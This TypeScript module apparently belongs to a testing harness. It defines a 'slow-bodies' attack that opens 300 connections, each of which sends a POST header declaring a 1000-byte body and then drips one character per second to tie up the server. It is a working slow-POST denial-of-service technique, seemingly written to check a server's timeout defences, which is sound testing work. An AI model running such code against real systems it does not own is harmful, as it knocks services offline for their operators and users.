import { type Attack, scaled } from './attack.ts'
import { openSockets } from './open-sockets.ts'

const head =
  'HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n'

export const slowBodies: Attack = {
  name: 'slow-bodies',
  about: '300 connections that send a letter of a form every second, until they are hung up on',
  run: target =>
    openSockets(target, {
      count: 300,
      ms: scaled(34_000, target),
      act: (socket, number) => {
        socket.write(`POST ${number % 2 === 0 ? '/promos' : '/track'} ${head}`)
        const drip = setInterval(() => socket.write('x'), 1000)
        socket.on('close', () => clearInterval(drip))
      },
    }),
}
